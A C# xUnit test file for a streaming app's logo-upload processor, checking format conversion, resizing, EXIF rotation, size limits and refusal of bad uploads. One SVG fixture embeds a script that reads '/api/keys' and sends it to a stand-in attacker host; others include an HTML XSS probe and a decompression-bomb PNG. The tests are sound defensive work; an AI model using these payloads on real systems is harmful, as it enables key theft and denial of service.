using System.Text;
using SkiaSharp;
using StreamerStudio.Domain.BrandKits;
using Xunit.Abstractions;

namespace StreamerStudio.Tests.BrandKits;

public sealed class LogoImageTests(ITestOutputHelper output)
{
    private const string NotAnImage = "This file is not a PNG, JPEG or WebP image. Export your logo in one of those formats and upload it again.";
    private const string NoSvg = "SVG files aren't accepted as logos. Export your logo as a PNG (a transparent background works best) and upload that.";
    private const string Damaged = "That image seems damaged or incomplete. Open it in your editor, export it again as a PNG and upload the new file.";

    private static readonly byte[] PngSignature = [0x89, 0x50, 0x4E, 0x47, 0x0D, 0x0A, 0x1A, 0x0A];

    [Theory]
    [InlineData(SKEncodedImageFormat.Png)]
    [InlineData(SKEncodedImageFormat.Jpeg)]
    [InlineData(SKEncodedImageFormat.Webp)]
    public async Task A_png_jpeg_or_webp_logo_comes_back_as_a_png_of_the_same_size(SKEncodedImageFormat format)
    {
        var upload = LogoSamples.TwoTone(320, 180, format, quality: 95);

        var logo = await LogoImage.ProcessAsync(new MemoryStream(upload), CancellationToken.None);

        Assert.Equal(PngSignature, logo.Png[..8]);
        Assert.Equal(PngColourType.Rgb, (PngColourType)logo.Png[25]);
        Assert.Equal((320, 180), (logo.Width, logo.Height));
        using var decoded = Decode(logo.Png);
        Assert.Equal((320, 180), (decoded.Width, decoded.Height));
        AssertNear(LogoSamples.Rose, decoded.GetPixel(40, 90), 12);
        AssertNear(LogoSamples.Slate, decoded.GetPixel(280, 90), 12);
    }

    [Fact]
    public async Task A_transparent_png_keeps_its_alpha()
    {
        var logo = await LogoImage.ProcessAsync(new MemoryStream(LogoSamples.TransparentPng(300, 300)), CancellationToken.None);

        Assert.Equal(PngColourType.Rgba, (PngColourType)logo.Png[25]);
        using var decoded = Decode(logo.Png);
        Assert.Equal(0, decoded.GetPixel(5, 5).Alpha);
        Assert.Equal(LogoSamples.Rose, decoded.GetPixel(150, 150));
    }

    [Fact]
    public async Task A_big_logo_is_stored_at_most_1024_pixels_on_its_long_side()
    {
        var logo = await LogoImage.ProcessAsync(new MemoryStream(LogoSamples.TwoTone(4000, 2000, SKEncodedImageFormat.Png)), CancellationToken.None);

        Assert.Equal((1024, 512), (logo.Width, logo.Height));
        using var decoded = Decode(logo.Png);
        Assert.Equal((1024, 512), (decoded.Width, decoded.Height));
        AssertNear(LogoSamples.Rose, decoded.GetPixel(100, 256), 2);
    }

    [Fact]
    public async Task A_phone_jpeg_is_turned_upright_by_its_exif_orientation()
    {
        // Stored 80 × 40, left half rose; orientation 6 means "rotate 90° clockwise to view", so the rose half ends on top.
        var jpeg = LogoSamples.WithExifOrientation(LogoSamples.TwoTone(80, 40, SKEncodedImageFormat.Jpeg, 95), 6);

        var logo = await LogoImage.ProcessAsync(new MemoryStream(jpeg), CancellationToken.None);

        Assert.Equal((40, 80), (logo.Width, logo.Height));
        using var decoded = Decode(logo.Png);
        AssertNear(LogoSamples.Rose, decoded.GetPixel(20, 10), 12);
        AssertNear(LogoSamples.Slate, decoded.GetPixel(20, 70), 12);
    }

    [Fact]
    public async Task A_decompression_bomb_is_refused_from_its_header_with_little_memory()
    {
        // 50,000 × 50,000 RGB claims 10 GB of pixels; the file is ~100 KB of compressed zeros.
        var bomb = LogoSamples.PngHeaderOnly(50_000, 50_000, zeroMegabytes: 100);
        Assert.InRange(bomb.Length, 50_000, 200_000);
        using var upload = new MemoryStream(bomb);

        var (error, allocated) = await RefusedMeasuringAsync(upload);

        Assert.Equal("That image is 50,000 × 50,000 pixels; logos can be at most 4,096 × 4,096. Export a smaller version and upload that.", error.Message);
        output.WriteLine($"Bomb ({bomb.Length:N0} bytes): {allocated:N0} bytes allocated.");
        Assert.True(allocated < 16L * 1024 * 1024, $"{allocated:N0} bytes allocated.");
    }

    [Fact]
    public void Reading_the_header_of_a_bomb_reserves_no_pixel_memory()
    {
        // What LogoImage relies on: SKCodec.Create parses the header and allocates no bitmap. Native memory is not seen
        // by the GC counters, so watch the process's address space: a 10 GB bitmap would show even if never touched.
        using var data = SKData.CreateCopy(LogoSamples.PngHeaderOnly(50_000, 50_000, zeroMegabytes: 100));
        using var process = System.Diagnostics.Process.GetCurrentProcess();
        process.Refresh();
        var before = process.VirtualMemorySize64;

        using var codec = SKCodec.Create(data);

        process.Refresh();
        var grown = process.VirtualMemorySize64 - before;
        output.WriteLine($"Address space grew by {grown:N0} bytes.");
        Assert.NotNull(codec);
        Assert.Equal((50_000, 50_000), (codec.Info.Width, codec.Info.Height));
        Assert.True(grown < 1024L * 1024 * 1024, $"{grown:N0} bytes.");
    }

    [Fact]
    public async Task A_script_in_an_svg_is_refused_with_a_hint_to_export_a_png()
    {
        var svg = """
            <svg xmlns="http://www.w3.org/2000/svg" width="100" height="100">
              <script>fetch('/api/keys').then(r => r.text()).then(t => new Image().src = 'https://evil.example/?' + t)</script>
              <circle cx="50" cy="50" r="40" fill="#E11D48"/>
            </svg>
            """;

        var error = await RefusedAsync(Encoding.UTF8.GetBytes(svg));

        Assert.Equal(NoSvg, error.Message);
    }

    [Theory]
    [InlineData("\uFEFF\r\n  <?xml version=\"1.0\"?><svg/>")]
    [InlineData("\t<SVG viewBox=\"0 0 1 1\"></SVG>")]
    [InlineData("<!DOCTYPE svg PUBLIC \"-//W3C//DTD SVG 1.1//EN\" \"\"><svg/>")]
    public async Task Svg_is_recognised_after_a_bom_and_whitespace(string text)
    {
        var error = await RefusedAsync(Encoding.UTF8.GetPreamble().Concat(Encoding.UTF8.GetBytes(text.TrimStart('\uFEFF'))).ToArray());

        Assert.Equal(NoSvg, error.Message);
    }

    [Fact]
    public async Task Html_is_refused_whatever_the_file_was_called()
    {
        // Uploaded as "logo.png" with Content-Type image/png: neither reaches LogoImage, only the bytes do.
        var html = "<!DOCTYPE html><html><body><img src=x onerror=alert(1)></body></html>"u8.ToArray();

        var error = await RefusedAsync(html);

        Assert.Equal(NotAnImage, error.Message);
    }

    [Fact]
    public async Task Other_bytes_are_refused_as_not_an_image()
    {
        var error = await RefusedAsync("GIF89a\x01\0\x01\0"u8.ToArray());

        Assert.Equal(NotAnImage, error.Message);
    }

    [Fact]
    public async Task An_empty_file_is_refused()
    {
        var error = await RefusedAsync([]);

        Assert.Equal("That file is empty. Choose your logo as a PNG, JPEG or WebP image.", error.Message);
    }

    [Fact]
    public async Task A_6_mb_file_is_refused_with_its_size_before_it_is_read()
    {
        var bytes = PngSignature.Concat(new byte[6 * 1024 * 1024 - PngSignature.Length]).ToArray();
        using var upload = new MemoryStream(bytes);

        var (error, allocated) = await RefusedMeasuringAsync(upload);

        Assert.Equal("That file is 6.0 MB; logos can be up to 5 MB.", error.Message);
        Assert.Equal(0, upload.Position);
        output.WriteLine($"6 MB seekable: {allocated:N0} bytes allocated.");
        Assert.True(allocated < 16L * 1024 * 1024, $"{allocated:N0} bytes allocated.");
    }

    [Fact]
    public async Task One_byte_over_the_limit_is_refused_and_does_not_read_as_5_0_mb()
    {
        var error = await RefusedAsync(new byte[LogoImage.MaxBytes + 1]);

        Assert.Equal("That file is 5.1 MB; logos can be up to 5 MB.", error.Message);
    }

    [Fact]
    public async Task A_6_mb_stream_that_hides_its_length_is_refused_after_5_mb_plus_one_byte()
    {
        var upload = new LazyStream(6L * 1024 * 1024, PngSignature);

        var (error, allocated) = await RefusedMeasuringAsync(upload);

        Assert.Equal("That file is over 5 MB; logos can be up to 5 MB.", error.Message);
        Assert.Equal(LogoImage.MaxBytes + 1, upload.BytesRead);
        output.WriteLine($"6 MB non-seekable: {allocated:N0} bytes allocated, {upload.BytesRead:N0} read.");
        Assert.True(allocated < 16L * 1024 * 1024, $"{allocated:N0} bytes allocated.");
    }

    [Fact]
    public async Task A_50_mb_stream_is_read_no_further_than_5_mb_whatever_it_claims()
    {
        // It says it is 1 KB; a reader that trusted that, or that read to the end, would buffer 50 MB.
        var upload = new LazyStream(50L * 1024 * 1024, PngSignature, claimedLength: 1024);

        var (error, allocated) = await RefusedMeasuringAsync(upload);

        Assert.Equal("That file is over 5 MB; logos can be up to 5 MB.", error.Message);
        Assert.InRange(upload.BytesRead, LogoImage.MaxBytes, LogoImage.MaxBytes + 1);
        output.WriteLine($"50 MB lazy: {allocated:N0} bytes allocated, {upload.BytesRead:N0} read.");
        Assert.True(allocated < 8L * 1024 * 1024, $"{allocated:N0} bytes allocated.");
    }

    [Fact]
    public async Task A_png_cut_in_half_is_refused_as_damaged()
    {
        var png = LogoSamples.NoisyPng(256, 256, seed: 3);

        var error = await RefusedAsync(png[..(png.Length / 2)]);

        Assert.Equal(Damaged, error.Message);
    }

    [Fact]
    public async Task A_jpeg_cut_short_is_refused_as_damaged()
    {
        var jpeg = LogoSamples.TwoTone(400, 400, SKEncodedImageFormat.Jpeg, 90);

        var error = await RefusedAsync(jpeg[..(jpeg.Length * 2 / 3)]);

        Assert.Equal(Damaged, error.Message);
    }

    [Fact]
    public async Task A_png_with_only_a_signature_is_refused_as_damaged()
    {
        var error = await RefusedAsync(PngSignature);

        Assert.Equal(Damaged, error.Message);
    }

    [Fact]
    public async Task A_png_4097_pixels_wide_is_refused()
    {
        using var bitmap = new SKBitmap(new SKImageInfo(4097, 10, SKColorType.Rgba8888, SKAlphaType.Premul));
        bitmap.Erase(LogoSamples.Rose);

        var error = await RefusedAsync(LogoSamples.Encode(bitmap, SKEncodedImageFormat.Png));

        Assert.Equal("That image is 4,097 × 10 pixels; logos can be at most 4,096 × 4,096. Export a smaller version and upload that.", error.Message);
    }

    [Fact]
    public async Task A_png_claiming_zero_width_is_refused()
    {
        var error = await RefusedAsync(LogoSamples.PngHeaderOnly(0, 10));

        Assert.Equal(Damaged, error.Message);
    }

    [Fact]
    public async Task A_4096_square_png_is_accepted()
    {
        using var bitmap = new SKBitmap(new SKImageInfo(4096, 4096, SKColorType.Rgba8888, SKAlphaType.Premul));
        bitmap.Erase(LogoSamples.Slate);

        var logo = await LogoImage.ProcessAsync(new MemoryStream(LogoSamples.Encode(bitmap, SKEncodedImageFormat.Png)), CancellationToken.None);

        Assert.Equal((1024, 1024), (logo.Width, logo.Height));
    }

    /// <summary>The colour type byte of the IHDR chunk, the first chunk after the signature (offset 25 in the file).</summary>
    private enum PngColourType : byte
    {
        Rgb = 2,
        Rgba = 6,
    }

    private static async Task<RequestRefusedException> RefusedAsync(byte[] upload) =>
        await Assert.ThrowsAsync<RequestRefusedException>(() => LogoImage.ProcessAsync(new MemoryStream(upload), CancellationToken.None));

    /// <summary>
    /// Runs the upload and returns the refusal with the managed bytes allocated meanwhile. The streams here complete
    /// synchronously, and the test checks that the whole call did, so every allocation happened on this thread.
    /// </summary>
    private static async Task<(RequestRefusedException Error, long Allocated)> RefusedMeasuringAsync(Stream upload)
    {
        var before = GC.GetAllocatedBytesForCurrentThread();
        var task = LogoImage.ProcessAsync(upload, CancellationToken.None);
        var allocated = GC.GetAllocatedBytesForCurrentThread() - before;

        Assert.True(task.IsCompleted, "The call went asynchronous; allocations on other threads would be missed.");
        var error = await Assert.ThrowsAsync<RequestRefusedException>(() => task);
        return (error, allocated);
    }

    private static SKBitmap Decode(byte[] png) =>
        SKBitmap.Decode(png) ?? throw new InvalidOperationException("Not an image Skia can read.");

    private static void AssertNear(SKColor expected, SKColor actual, int tolerance) =>
        Assert.True(Math.Abs(expected.Red - actual.Red) <= tolerance && Math.Abs(expected.Green - actual.Green) <= tolerance
            && Math.Abs(expected.Blue - actual.Blue) <= tolerance && actual.Alpha == 255, $"Expected about {expected}, got {actual}.");
}
